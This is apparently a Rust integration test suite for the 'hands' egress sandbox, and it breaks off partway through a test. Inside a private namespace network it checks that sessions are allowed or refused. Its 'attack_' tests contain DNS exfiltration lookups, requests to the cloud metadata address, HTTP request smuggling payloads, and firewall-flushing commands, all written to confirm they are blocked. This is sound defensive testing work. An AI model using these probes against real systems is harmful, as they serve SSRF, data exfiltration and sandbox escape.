//! Egress with real clients, in a test network of the suite's own: two network
//! namespaces joined by a veth pair (no address of the machine's own network is
//! ever used).
//!
//! - the *worker side* (198.51.100.1/24) runs `hands exec` and `hands tool`,
//!   so the sessions' egress is served from there;
//! - the *server side* holds dnsmasq on 198.51.100.53 (the policy's resolver),
//!   HTTP on 198.51.100.10 and .11, HTTPS on 198.51.100.10:443 and :8443 under a
//!   test CA (a git repository served the dumb way, a Python package index),
//!   and bait listeners on 169.254.169.254 and 198.51.100.66 that log every
//!   connection they see.
//!
//! Both namespaces are anchored by processes that die with the test binary
//! (`setpriv --pdeathsig`, spawned from a thread that lives as long as it), so
//! nothing outlives a run.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::{mpsc, Mutex, OnceLock};
use std::time::Duration;

use crate::util::hands_bin;

/// The environment of these tests, written to the suite's policy directory.
const POLICY: &str = r#"
description = "egress tests"

[filesystem]
read_only = ["/usr", "/bin", "/lib", "/lib64", "/etc"]
tmp_size = "64MiB"

[network]
mode = "egress"

[egress]
allow = [
    "allowed.test",
    "*.wild.test",
    "tls.test:443",
    "rebind.test",
    "metadata.test",
    "rebind6.test",
    "nat64.test",
    "v6only.test",
    # The test servers live in a documentation range, refused unless a network
    # rule opens it: only .10, on every port.
    "198.51.100.10/32",
    # The same for the IPv6 server, on port 80.
    "[2001:db8::10]:80",
]
deny = ["denied.test"]
resolvers = ["198.51.100.53:53"]

[limits]
memory = "512MiB"
pids = 256
cpu = 1.0
output_bytes = 102400
file_bytes = 262144
bash_timeout = "60s"
call_timeout = "90s"
disk = "256MiB"
disk_inodes = 65536

[tools]
enabled = ["bash", "read", "write", "edit", "glob", "grep"]
"#;

/// Spawns long-lived processes from one thread that never ends, so their
/// parent-death signal fires only when the test binary exits.
fn spawn_kept(cmd: Command, log: Option<&Path>) -> u32 {
    type Job = (Command, mpsc::Sender<u32>);
    static SPAWNER: OnceLock<Mutex<mpsc::Sender<Job>>> = OnceLock::new();
    let tx = SPAWNER.get_or_init(|| {
        let (tx, rx) = mpsc::channel::<Job>();
        std::thread::spawn(move || {
            let mut kept = Vec::new();
            for (mut cmd, reply) in rx {
                let child = cmd.spawn().expect("spawn a test network process");
                let _ = reply.send(child.id());
                kept.push(child);
            }
        });
        Mutex::new(tx)
    });
    let (reply, pid) = mpsc::channel();
    let mut kept = Command::new("setpriv");
    kept.args(["--pdeathsig", "KILL", "--"])
        .arg(cmd.get_program());
    kept.args(cmd.get_args());
    for (k, v) in cmd.get_envs() {
        match v {
            Some(v) => kept.env(k, v),
            None => kept.env_remove(k),
        };
    }
    match log {
        Some(path) => {
            let f = std::fs::File::create(path).unwrap();
            kept.stdout(f.try_clone().unwrap()).stderr(f);
        }
        None => {
            kept.stdout(Stdio::null()).stderr(Stdio::null());
        }
    }
    tx.lock().unwrap().send((kept, reply)).unwrap();
    pid.recv().unwrap()
}

/// A process in a network namespace of its own, for as long as the run.
fn namespace() -> u32 {
    let mut cmd = Command::new("unshare");
    cmd.args(["--net", "--", "sleep", "infinity"]);
    let pid = spawn_kept(cmd, None);
    let own = std::fs::read_link("/proc/self/ns/net").unwrap();
    for _ in 0..500 {
        let comm = std::fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
        let ns = std::fs::read_link(format!("/proc/{pid}/ns/net")).ok();
        if comm.trim() == "sleep" && ns.is_some_and(|ns| ns != own) {
            return pid;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    panic!("no network namespace for the test network");
}

fn run(cmd: &mut Command) -> Output {
    let out = cmd.output().unwrap_or_else(|e| panic!("{cmd:?}: {e}"));
    assert!(
        out.status.success(),
        "{cmd:?}: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

fn nsenter(pid: u32) -> Command {
    let mut c = Command::new("nsenter");
    c.arg(format!("--net=/proc/{pid}/ns/net"));
    c
}

pub(crate) struct Net {
    pub(crate) dir: tempfile::TempDir,
    /// The worker side's anchor.
    worker: u32,
    pub(crate) ca: PathBuf,
}

impl Net {
    /// The suite's one test network, made on first use.
    pub(crate) fn get() -> &'static Net {
        static NET: OnceLock<Net> = OnceLock::new();
        NET.get_or_init(Net::make)
    }

    fn make() -> Net {
        let dir = tempfile::Builder::new()
            .prefix("hands-egress-")
            .tempdir()
            .unwrap();
        let d = dir.path();
        let (w, s) = (namespace(), namespace());
        run(Command::new("ip").args([
            "link",
            "add",
            "ew0",
            "netns",
            &w.to_string(),
            "type",
            "veth",
            "peer",
            "name",
            "es0",
            "netns",
            &s.to_string(),
        ]));
        for (pid, args) in [
            (w, "link set lo up"),
            (w, "addr add 198.51.100.1/24 dev ew0"),
            (w, "link set ew0 up"),
            (w, "route add 169.254.169.254/32 dev ew0"),
            (w, "addr add 2001:db8::1/64 dev ew0 nodad"),
            (s, "link set lo up"),
            (s, "addr add 198.51.100.10/24 dev es0"),
            (s, "addr add 198.51.100.11/24 dev es0"),
            (s, "addr add 198.51.100.53/24 dev es0"),
            (s, "addr add 198.51.100.66/24 dev es0"),
            (s, "addr add 169.254.169.254/32 dev es0"),
            (s, "addr add 2001:db8::10/64 dev es0 nodad"),
            (s, "link set es0 up"),
            (s, "route add default via 198.51.100.1"),
        ] {
            run(nsenter(pid).arg("ip").args(args.split(' ')));
        }

        // The test CA and the servers' certificate.
        let ca = hands::pki::Ca::new(30).unwrap();
        let ca_pem = d.join("ca.pem");
        std::fs::write(&ca_pem, &ca.issued.cert_pem).unwrap();
        let server = ca
            .gateway(
                &[
                    "allowed.test".into(),
                    "tls.test".into(),
                    "a.wild.test".into(),
                ],
                30,
            )
            .unwrap();
        std::fs::write(d.join("server.pem"), &server.cert_pem).unwrap();
        std::fs::write(d.join("server-key.pem"), &server.key_pem).unwrap();
        www(d);

        let mut dns = nsenter(s);
        dns.args([
            "dnsmasq",
            "--keep-in-foreground",
            "--no-resolv",
            "--no-hosts",
            "--bind-interfaces",
            "--listen-address=198.51.100.53",
            "--user=root",
            "--group=root",
            "--log-queries",
        ])
        .arg(format!("--log-facility={}", d.join("dns.log").display()))
        .arg(format!("--pid-file={}", d.join("dnsmasq.pid").display()));
        for (name, addr) in [
            ("allowed.test", "198.51.100.10"),
            ("tls.test", "198.51.100.10"),
            ("a.wild.test", "198.51.100.10"),
            ("wild.test", "198.51.100.10"),
            ("denied.test", "198.51.100.10"),
            ("unlisted.test", "198.51.100.11"),
            ("rebind.test", "127.0.0.1"),
            ("metadata.test", "169.254.169.254"),
            ("rebind6.test", "::ffff:127.0.0.1"),
            ("nat64.test", "64:ff9b::a9fe:a9fe"),
            ("v6only.test", "2001:db8::10"),
        ] {
            dns.arg(format!("--address=/{name}/{addr}"));
        }
        spawn_kept(dns, Some(&d.join("dnsmasq.out")));
        let mut servers = nsenter(s);
        servers
            .env("PYTHONFAULTHANDLER", "1")
            .arg("python3")
            .arg(concat!(
                env!("CARGO_MANIFEST_DIR"),
                "/tests/egress/servers.py"
            ))
            .arg(d)
            .arg(d.join("server.pem"))
            .arg(d.join("server-key.pem"));
        spawn_kept(servers, Some(&d.join("servers.out")));
        for _ in 0..1000 {
            if d.join("servers.ready").exists() && d.join("dns.log").exists() {
                break;
            }
            std::thread::sleep(Duration::from_millis(10));
        }
        if !d.join("servers.ready").exists() {
            let out = |f: &str| std::fs::read_to_string(d.join(f)).unwrap_or_default();
            let (a, b) = (out("servers.out"), out("dnsmasq.out"));
            panic!(
                "the test servers did not start (in {}): {a}{b}",
                dir.keep().display()
            );
        }

        let policies = d.join("policies");
        std::fs::create_dir(&policies).unwrap();
        std::fs::write(policies.join("egtest.toml"), POLICY).unwrap();
        Net {
            dir,
            worker: w,
            ca: ca_pem,
        }
    }

    fn policies(&self) -> PathBuf {
        self.dir.path().join("policies")
    }

    /// `hands SUBCOMMAND --env egtest --workspace WS ARGS…` from the worker
    /// side, in a fresh workspace holding the test CA as `ca.pem`; `log`, if
    /// given, receives its audit records.
    fn hands(&self, subcommand: &str, args: &[&str], log: Option<&Path>) -> Output {
        let ws = tempfile::tempdir().unwrap();
        std::fs::copy(&self.ca, ws.path().join("ca.pem")).unwrap();
        let mut cmd = nsenter(self.worker);
        if let Some(log) = log {
            cmd.env("HANDS_AUDIT_LOG", log);
        }
        cmd.arg(hands_bin())
            .arg("--policy-dir")
            .arg(self.policies())
            .args([
                subcommand,
                "--env",
                "egtest",
                "--allow-root-workspace",
                "--workspace",
            ])
            .arg(ws.path())
            .args(args)
            .output()
            .unwrap()
    }

    /// `hands exec` of `script` (sh) in a session of the test environment.
    pub(crate) fn exec(&self, script: &str) -> Output {
        self.hands("exec", &["--", "/bin/sh", "-c", script], None)
    }

    /// `hands tool bash` of `command` in a session of the test environment:
    /// the result as the model sees it (JSON on stdout).
    pub(crate) fn bash_tool(&self, command: &str) -> Output {
        let input = serde_json::json!({ "command": command }).to_string();
        self.hands("tool", &["bash", &input], None)
    }

    /// `hands exec` with its audit records in `log`.
    pub(crate) fn exec_audited(&self, script: &str, log: &Path) -> Output {
        self.hands("exec", &["--", "/bin/sh", "-c", script], Some(log))
    }

    /// The lines the bait listeners logged.
    pub(crate) fn bait(&self) -> String {
        std::fs::read_to_string(self.dir.path().join("bait.log")).unwrap_or_default()
    }

    /// The requests the lax server answered.
    pub(crate) fn lax(&self) -> String {
        std::fs::read_to_string(self.dir.path().join("lax.log")).unwrap_or_default()
    }

    /// What dnsmasq was asked.
    pub(crate) fn dns_log(&self) -> String {
        std::fs::read_to_string(self.dir.path().join("dns.log")).unwrap_or_default()
    }
}

/// The files the HTTPS server serves: a git repository (dumb HTTP) and a
/// package index with one wheel.
fn www(d: &Path) {
    let www = d.join("www");
    std::fs::create_dir_all(&www).unwrap();
    let work = d.join("repo-work");
    let git = |dir: &Path, args: &[&str]| {
        run(Command::new("git")
            .args([
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@t",
                "-c",
                "init.defaultBranch=main",
            ])
            .arg("-C")
            .arg(dir)
            .args(args));
    };
    std::fs::create_dir_all(&work).unwrap();
    git(&work, &["init", "-q"]);
    std::fs::write(work.join("README"), "cloned through hands egress\n").unwrap();
    git(&work, &["add", "README"]);
    git(&work, &["commit", "-qm", "one"]);
    git(
        &www,
        &["clone", "-q", "--bare", work.to_str().unwrap(), "repo.git"],
    );
    git(&www.join("repo.git"), &["update-server-info"]);
    run(Command::new("python3").arg("-c").arg(WHEEL).arg(&www));
}

/// Writes `simple/handsdemo/` with a pure-Python wheel under the directory
/// given as `sys.argv[1]`.
const WHEEL: &str = r#"
import base64, hashlib, os, sys, zipfile
root = os.path.join(sys.argv[1], "simple", "handsdemo")
os.makedirs(root, exist_ok=True)
name = "handsdemo-0.1-py3-none-any.whl"
files = {
    "handsdemo/__init__.py": "GREETING = 'installed through hands egress'\n",
    "handsdemo-0.1.dist-info/METADATA": "Metadata-Version: 2.1\nName: handsdemo\nVersion: 0.1\n",
    "handsdemo-0.1.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: hands-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}
record = []
with zipfile.ZipFile(os.path.join(root, name), "w") as z:
    for path, text in files.items():
        data = text.encode()
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record.append(f"{path},sha256={digest},{len(data)}")
        z.writestr(path, data)
    record.append("handsdemo-0.1.dist-info/RECORD,,")
    z.writestr("handsdemo-0.1.dist-info/RECORD", "\n".join(record) + "\n")
with open(os.path.join(root, "index.html"), "w") as f:
    f.write(f'<html><body><a href="{name}">{name}</a></body></html>\n')
"#;

fn text(out: &Output) -> String {
    format!(
        "status {:?}\n--- stdout\n{}--- stderr\n{}",
        out.status.code(),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

const CURL: &str = "curl -sS --max-time 20 --cacert /workspace/ca.pem";

#[test]
fn curl_through_the_proxy_reaches_an_allowed_host() {
    crate::require_sandbox!();
    let net = Net::get();
    let out = net.exec(&format!(
        "{CURL} http://allowed.test/plain && {CURL} https://allowed.test/tls"
    ));
    let t = text(&out);
    assert!(out.status.success(), "{t}");
    assert!(
        t.contains("hello from 198.51.100.10 allowed.test /plain"),
        "{t}"
    );
    assert!(
        t.contains("hello from 198.51.100.10 allowed.test /tls"),
        "{t}"
    );
}

/// The output of a script whose every step must pass.
fn ok(out: &Output) -> String {
    let t = text(out);
    assert!(out.status.success(), "{t}");
    t
}

#[test]
fn a_client_that_ignores_the_proxy_variables_is_captured_and_policed() {
    crate::require_sandbox!();
    let net = Net::get();
    // curl --noproxy: the barrier sends the connection to the transparent
    // listener, which names it by its Host or its TLS server name.
    let t = ok(&net.exec(&format!(
        "{CURL} --noproxy '*' http://allowed.test/transparent && \
         {CURL} --noproxy '*' https://allowed.test/transparent-tls"
    )));
    assert!(
        t.contains("hello from 198.51.100.10 allowed.test /transparent\n"),
        "{t}"
    );
    assert!(t.contains("allowed.test /transparent-tls"), "{t}");
    // A raw socket client, no proxy support at all.
    let t = ok(&net.exec(
        "python3 -c \"import socket; s = socket.create_connection(('allowed.test', 80), 10); \
         s.sendall(b'GET /raw HTTP/1.0\\r\\nHost: allowed.test\\r\\n\\r\\n'); \
         print(s.makefile('rb').read().decode())\"",
    ));
    assert!(t.contains("allowed.test /raw"), "{t}");
}

#[test]
fn python_urllib_and_git_and_pip_work_through_the_proxy() {
    crate::require_sandbox!();
    let net = Net::get();
    let t = ok(&net.exec(
        "python3 -c \"import ssl, urllib.request; \
         c = ssl.create_default_context(cafile='/workspace/ca.pem'); \
         print(urllib.request.urlopen('https://allowed.test/urllib', context=c, timeout=20).read().decode())\"",
    ));
    assert!(t.contains("allowed.test /urllib"), "{t}");
    let t = ok(&net.exec(
        "GIT_SSL_CAINFO=/workspace/ca.pem git clone -q https://allowed.test/files/repo.git /tmp/repo && cat /tmp/repo/README",
    ));
    assert!(t.contains("cloned through hands egress"), "{t}");
    let t = ok(&net.exec(
        "python3 -m pip install -q --no-cache-dir --disable-pip-version-check --cert /workspace/ca.pem \
         --index-url https://allowed.test/files/simple/ --target /tmp/pkgs handsdemo && \
         PYTHONPATH=/tmp/pkgs python3 -c 'import handsdemo; print(handsdemo.GREETING)'",
    ));
    assert!(t.contains("installed through hands egress"), "{t}");
}

#[test]
fn a_denied_host_gets_a_403_that_names_it_and_exec_says_so() {
    crate::require_sandbox!();
    let net = Net::get();
    let out = net.exec(&format!("{CURL} -i http://denied.test/secret"));
    let t = text(&out);
    assert!(t.contains("HTTP/1.1 403 Forbidden"), "{t}");
    assert!(
        t.contains("X-Hands-Egress: denied; host=denied.test; port=80"),
        "{t}"
    );
    assert!(
        t.contains("denied.test:80 denied in environment egtest"),
        "{t}"
    );
    assert!(
        t.contains("hands: egress denied in environment egtest: denied.test:80"),
        "{t}"
    );
}

#[test]
fn the_bash_result_ends_with_a_note_naming_each_denied_destination() {
    crate::require_sandbox!();
    let net = Net::get();
    let out = net.bash_tool(&format!(
        "{CURL} -o /dev/null http://denied.test/; {CURL} -o /dev/null http://allowed.test/; \
         {CURL} -o /dev/null http://198.51.100.11/; true"
    ));
    let t = text(&out);
    assert!(
        t.contains("[egress] denied by environment egtest: denied.test:80"),
        "{t}"
    );
    assert!(t.contains("198.51.100.11:80"), "{t}");
    assert!(!t.contains("allowed.test:80 ("), "{t}");
}

#[test]
fn attack_an_ip_literal_is_refused_through_the_proxy_and_around_it() {
    crate::require_sandbox!();
    let net = Net::get();
    let t = text(&net.exec(&format!("{CURL} -i http://198.51.100.11/")));
    assert!(t.contains("403 Forbidden"), "{t}");
    let out = net.exec(&format!("{CURL} --noproxy '*' http://198.51.100.11/"));
    let t = text(&out);
    assert!(!out.status.success() && !t.contains("hello from"), "{t}");
}

#[test]
fn attack_dns_exfiltration_never_reaches_a_resolver() {
    crate::require_sandbox!();
    let net = Net::get();
    let out = net.exec(
        "getent hosts secret-5f3a.exfil.test; dig +tries=1 +time=3 secret-9c1e.exfil.test; \
         getent hosts allowed.test",
    );
    let t = text(&out);
    assert!(t.contains("status: NXDOMAIN"), "{t}");
    assert!(
        t.contains("198.51.100.10"),
        "an allowed name is answered: {t}"
    );
    let log = net.dns_log();
    assert!(
        !log.contains("secret-5f3a") && !log.contains("secret-9c1e"),
        "{log}"
    );
}

#[test]
fn attack_raw_dns_to_another_server_and_other_udp_are_dropped() {
    crate::require_sandbox!();
    let net = Net::get();
    let out = net.exec(
        "dig +tries=1 +time=2 @198.51.100.53 rawdns-7d2b.allowed.test; \
         python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); \
         s.sendto(b'x', ('198.51.100.10', 9999))\"",
    );
    let t = text(&out);
    assert!(!t.contains("ANSWER SECTION"), "{t}");
    assert!(
        t.contains("PermissionError") || t.contains("Operation not permitted"),
        "{t}"
    );
    assert!(!net.dns_log().contains("rawdns-7d2b"), "{}", net.dns_log());
}

#[test]
fn attack_a_name_that_resolves_to_loopback_or_the_metadata_address_is_refused() {
    crate::require_sandbox!();
    let net = Net::get();
    let t = text(&net.exec(&format!(
        "{CURL} -i http://rebind.test/; {CURL} -i http://metadata.test/latest/; \
         {CURL} -i http://169.254.169.254/latest/; {CURL} --noproxy '*' http://169.254.169.254/"
    )));
    assert_eq!(t.matches("403 Forbidden").count(), 3, "{t}");
    assert!(
        t.contains("rebind.test:80 denied in environment egtest: resolves to 127.0.0.1"),
        "{t}"
    );
    assert!(t.contains("a metadata address"), "{t}");
    assert!(!net.bait().contains("169.254.169.254"), "{}", net.bait());
}

#[test]
fn attack_ipv4_hidden_in_ipv6_is_refused() {
    crate::require_sandbox!();
    let net = Net::get();
    // Literals through the proxy: mapped, NAT64 and 6to4 forms of the
    // metadata address.
    let t = text(&net.exec(&format!(
        "{CURL} -g -i 'http://[::ffff:169.254.169.254]/latest/'; \
         {CURL} -g -i 'http://[64:ff9b::a9fe:a9fe]/latest/'; \
         {CURL} -g -i 'http://[2002:a9fe:a9fe::1]/latest/'"
    )));
    assert_eq!(t.matches("403 Forbidden").count(), 3, "{t}");
    // Allowed names whose only answers are loopback mapped into IPv6 and the
    // metadata address behind the NAT64 prefix.
    let t = text(&net.exec(&format!(
        "{CURL} -i http://rebind6.test/; {CURL} -i http://nat64.test/latest/"
    )));
    assert_eq!(t.matches("403 Forbidden").count(), 2, "{t}");
    assert!(
        t.contains("rebind6.test:80 denied in environment egtest: resolves to"),
        "{t}"
    );
    // Around the proxy: a socket to the mapped form is an IPv4 connection to
    // the metadata address, captured and refused.
    let out = net.exec(&format!(
        "{CURL} -g --noproxy '*' 'http://[::ffff:169.254.169.254]/latest/'; \
         {CURL} -g --noproxy '*' 'http://[64:ff9b::a9fe:a9fe]/latest/'"
    ));
    let t = text(&out);
    assert!(!out.status.success() && !t.contains("hello from"), "{t}");
    assert!(!net.bait().contains("169.254.169.254"), "{}", net.bait());
}

#[test]
fn ipv6_destinations_are_reached_through_the_proxy_and_captured() {
    crate::require_sandbox!();
    let net = Net::get();
    let out = net.exec(&format!(
        "{CURL} http://v6only.test/proxied; {CURL} --noproxy '*' http://v6only.test/captured; \
         {CURL} -g --noproxy '*' 'http://[2001:db8::10]/literal'; \
         {CURL} -g -i 'http://[2001:db8::10]:8080/other-port'"
    ));
    let t = text(&out);
    for path in ["/proxied", "/captured", "/literal"] {
        assert!(
            t.contains(&format!("hello from 2001:db8::10 v6only.test {path}"))
                || t.contains(&format!("hello from 2001:db8::10 [2001:db8::10] {path}")),
            "{path}: {t}"
        );
    }
    assert!(t.contains("403 Forbidden"), "{t}");
}

#[test]
fn attack_too_broad_rules_are_refused_by_policy_check() {
    let dir = tempfile::tempdir().unwrap();
    let check = |allow: &str, extra: &str| {
        let file = dir.path().join("broad.toml");
        let text = POLICY
            .replace(
                "deny = [\"denied.test\"]",
                &format!("deny = [\"denied.test\"]\n{extra}"),
            )
            .replace("allow = [\n", &format!("allow = [\n    {allow},\n"));
        std::fs::write(&file, text).unwrap();
        Command::new(hands_bin())
            .args(["policy", "check"])
            .arg(&file)
            .output()
            .unwrap()
    };
    for broad in [
        "\"*\"",
        "\"*.com\"",
        "\"*.co.uk\"",
        "\"0.0.0.0/0\"",
        "\"::/0\"",
    ] {
        let out = check(broad, "");
        let t = text(&out);
        assert_ne!(out.status.code(), Some(0), "{broad}: {t}");
        assert!(
            t.contains("broad.toml") && t.contains("egress.allow") && t.contains("too broad"),
            "{broad}: {t}"
        );
        let out = check(broad, "allow_broad = true");
        assert_eq!(out.status.code(), Some(0), "{broad}: {}", text(&out));
    }
}

/// `raw HOST PORT REQUEST…`: sends each request (Python escapes) as raw bytes
/// to HOST:PORT on a connection of its own, prints what came back (until the
/// last answer's body is in, or 5 s), then closes.
const RAW_CLIENT: &str = r#"
import socket, sys, time
for req in sys.argv[3:]:
    s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
    s.sendall(req.encode().decode("unicode_escape").encode("latin-1"))
    s.settimeout(5)
    got = b""
    try:
        while True:
            head, sep, body = got.rpartition(b"\r\n\r\n")
            if sep:
                n = [l.split(b":")[1] for l in head.split(b"\r\n") if l.lower().startswith(b"content-length:")]
                if n and len(body) >= int(n[0]):
                    break
            b = s.recv(65536)
            if not b:
                break
            got += b
    except socket.timeout:
        print("(timed out)")
    print(got.decode("latin-1"))
    print("----")
    s.close()
"#;

#[test]
fn attack_a_second_request_on_a_forwarded_connection_never_reaches_the_server() {
    crate::require_sandbox!();
    let net = Net::get();
    let url = "http://allowed.test:8080";
    let host = "Host: allowed.test:8080";
    let next = "GET /REQ HTTP/1.1\\r\\nHost: unlisted.test\\r\\n\\r\\n";
    let requests = [
        // Pipelined behind a request without a body.
        format!("GET {url}/first-a1 HTTP/1.1\\r\\n{host}\\r\\n\\r\\n{}", next.replace("REQ", "second-a2")),
        // Hidden after a body of the declared length.
        format!(
            "POST {url}/post-b1 HTTP/1.1\\r\\n{host}\\r\\nContent-Length: 5\\r\\n\\r\\nhello{}",
            next.replace("REQ", "smuggled-b2")
        ),
        // After a chunked body's last chunk.
        format!(
            "POST {url}/chunked-c1 HTTP/1.1\\r\\n{host}\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n5\\r\\nhello\\r\\n0\\r\\n\\r\\n{}",
            next.replace("REQ", "smuggled-c2")
        ),
        // A head two parsers could frame differently.
        format!(
            "POST {url}/both-d1 HTTP/1.1\\r\\n{host}\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{}",
            next.replace("REQ", "smuggled-d2")
        ),
    ];
    // Through the proxy, then the same requests (in origin form) in a
    // CONNECT tunnel and around the proxy (captured transparently).
    let origin = |r: &str| r.replacen(url, "", 1);
    let mut script =
        format!("cat > raw.py <<'EOF'\n{RAW_CLIENT}\nEOF\npython3 raw.py 127.0.0.1 3128");
    for r in &requests {
        script.push_str(&format!(" '{r}'"));
    }
    script
        .push_str(" 'CONNECT allowed.test:8080 HTTP/1.1\\r\\nHost: allowed.test:8080\\r\\n\\r\\n");
    script.push_str(
        &origin(&requests[0])
            .replace("first-a1", "tunnel-e1")
            .replace("second-a2", "tunnel-e2"),
    );
    script.push_str("'; python3 raw.py 198.51.100.10 8080");
    for r in &requests[..3] {
        let r = origin(r);
        script.push_str(&format!(
            " '{}'",
            r.replace("-a", "-f")
                .replace("-b", "-g")
                .replace("-c", "-h")
        ));
    }
    let out = net.exec(&script);
    let t = text(&out);
    let lax = net.lax();
    for forwarded in [
        "GET /first-a1 HTTP/1.1 host=allowed.test:8080 body=0",
        "POST /post-b1 HTTP/1.1 host=allowed.test:8080 body=5",
        "POST /chunked-c1 HTTP/1.1 host=allowed.test:8080 body=5",
        "GET /tunnel-e1 HTTP/1.1 host=allowed.test:8080 body=0",
        "GET /first-f1 HTTP/1.1 host=allowed.test:8080 body=0",
        "POST /post-g1 HTTP/1.1 host=allowed.test:8080 body=5",
        "POST /chunked-h1 HTTP/1.1 host=allowed.test:8080 body=5",
    ] {
        assert!(lax.contains(forwarded), "{forwarded} missing: {lax}\n{t}");
        assert!(t.contains(&format!("lax: {forwarded}")), "{t}");
    }
    for never in [
        "second-a2",
        "smuggled-b2",
        "smuggled-c2",
        "both-d1",
        "smuggled-d2",
        "tunnel-e2",
        "second-f2",
        "smuggled-g2",
        "smuggled-h2",
    ] {
        assert!(!lax.contains(never), "{never} reached the server: {lax}");
    }
    assert!(
        t.contains("400 Bad Request")
            && t.contains("ambiguous: both Content-Length and Transfer-Encoding"),
        "{t}"
    );
}

#[test]
fn attack_connect_to_an_allowed_host_s_other_port_is_refused() {
    crate::require_sandbox!();
    let net = Net::get();
    let t = ok(&net.exec(&format!("{CURL} https://tls.test/")));
    assert!(t.contains("tls.test /"), "{t}");
    let t = text(&net.exec(&format!("{CURL} -v https://tls.test:8443/ 2>&1")));
    assert!(t.contains("403"), "{t}");
    assert!(!t.contains("hello from"), "{t}");
}

#[test]
fn attack_socks_to_a_denied_host_is_refused() {
    crate::require_sandbox!();
    let net = Net::get();
    let t = ok(&net.exec(&format!(
        "{CURL} --socks5-hostname 127.0.0.1:1080 http://allowed.test/socks"
    )));
    assert!(t.contains("allowed.test /socks"), "{t}");
    let out = net.exec(&format!(
        "{CURL} --socks5-hostname 127.0.0.1:1080 http://denied.test/"
    ));
    let t = text(&out);
    assert!(!out.status.success() && !t.contains("hello from"), "{t}");
}

#[test]
fn attack_a_host_or_server_name_that_disagrees_with_the_target_is_refused() {
    crate::require_sandbox!();
    let net = Net::get();
    // Through the proxy: a Host of another name than the URI.
    let t = text(&net.exec(&format!(
        "{CURL} -i -H 'Host: allowed.test' http://unlisted.test/"
    )));
    assert!(t.contains("403 Forbidden"), "{t}");
    // Around it: an allowed name's Host sent to the bait's address.
    let out = net.exec(&format!(
        "{CURL} --noproxy '*' --resolve allowed.test:80:198.51.100.66 http://allowed.test/"
    ));
    assert!(!out.status.success(), "{}", text(&out));
    assert!(!net.bait().contains("198.51.100.66"), "{}", net.bait());
    // Through the proxy: a tunnel to an allowed host:port whose TLS server name
    // is another host.
    let out = net.exec(&format!(
        "{CURL} --connect-to allowed.test:443:tls.test:443 https://allowed.test/tunnelled"
    ));
    let t = text(&out);
    assert!(!out.status.success() && !t.contains("hello from"), "{t}");
}

#[test]
fn attack_the_sandbox_cannot_change_its_barrier() {
    crate::require_sandbox!();
    let net = Net::get();
    let t = text(&net.exec(
        "nft flush ruleset; echo nft=$?; ip route del default; echo ip=$?; \
         ip link set lo down; echo link=$?",
    ));
    for refused in ["nft=0", "ip=0", "link=0"] {
        assert!(!t.contains(refused), "{t}");
    }
    assert_eq!(t.matches("Operation not permitted").count(), 3, "{t}");
}

#[test]
fn the_proxy_serves_on_after_garbage_silence_and_a_flood_of_connections() {
    crate::require_sandbox!();
    let net = Net::get();
    // One session sends garbage to every listener, leaves connections
    // silent and opens more than its bound of connections, and holds them
    // while another session uses its own proxy.
    let flood = std::thread::spawn(move || {
        net.exec(
            "python3 -c \"
import socket, time
held = []
# The transparent port resets a connection made to it directly (it only
# serves redirected ones), maybe before connect() returns.
for port in (3128, 1080, 15001):
    try:
        s = socket.create_connection(('127.0.0.1', port), 5)
        s.sendall(b'\\x00\\xff garbage \\r\\n\\r\\n' * 100)
        held.append(s)
        held.append(socket.create_connection(('127.0.0.1', port), 5))
    except ConnectionResetError:
        assert port == 15001
for _ in range(300):
    try:
        held.append(socket.create_connection(('127.0.0.1', 3128), 5))
    except OSError:
        pass
time.sleep(4)
for s in held:
    s.close()
\" && sleep 1 && curl -sS --max-time 20 http://allowed.test/after-flood",
        )
    });
    std::thread::sleep(Duration::from_secs(2));
    let t = ok(&net.exec(&format!("{CURL} http://allowed.test/meanwhile")));
    assert!(t.contains("allowed.test /meanwhile"), "{t}");
    // The flooding session's own proxy serves again once it lets go.
    let t = ok(&flood.join().unwrap());
    assert!(t.contains("allowed.test /after-flood"), "{t}");
}

/// The egress records of an audit log.
fn egress_records(log: &Path) -> Vec<serde_json::Value> {
    std::fs::read_to_string(log)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .filter(|r: &serde_json::Value| r["kind"] == "egress")
        .collect()
}

fn assert_chain_holds(log: &Path) {
    assert!(matches!(
        hands::audit::verify(&[log.to_path_buf()]).unwrap(),
        hands::audit::Verdict::Holds { .. }
    ));
}

#[test]
fn every_decision_is_an_audit_record() {
    crate::require_sandbox!();
    let net = Net::get();
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("audit.jsonl");
    ok(&net.exec_audited(
        &format!("{CURL} -o /dev/null http://allowed.test/; {CURL} -o /dev/null http://denied.test/; true"),
        &log,
    ));
    let records = egress_records(&log);
    let allowed = records
        .iter()
        .find(|r| r["host"] == "allowed.test" && r["decision"] == "allowed")
        .unwrap_or_else(|| panic!("{records:?}"));
    assert_eq!(allowed["port"], 80);
    assert_eq!(allowed["address"], "198.51.100.10");
    assert!(allowed["bytes_down"].as_u64().unwrap() > 0, "{allowed}");
    assert!(
        allowed["call_id"].as_str().unwrap().starts_with("exec-"),
        "{allowed}"
    );
    let denied = records
        .iter()
        .find(|r| r["host"] == "denied.test" && r["decision"] == "denied")
        .unwrap_or_else(|| panic!("{records:?}"));
    assert_eq!(denied["rule"], "denied.test", "{denied}");
    assert_chain_holds(&log);
}

/// A session denied without end: its note names the first destinations and
/// counts the rest, and its audit records stay within the session's budget,
/// with every decision past it counted in a record of its own (the itemised
/// denials and the counted ones add up to every attempt).
#[test]
fn attack_a_flood_of_denials_floods_neither_the_audit_log_nor_the_note() {
    crate::require_sandbox!();
    let net = Net::get();
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("audit.jsonl");
    const N: usize = 3000;
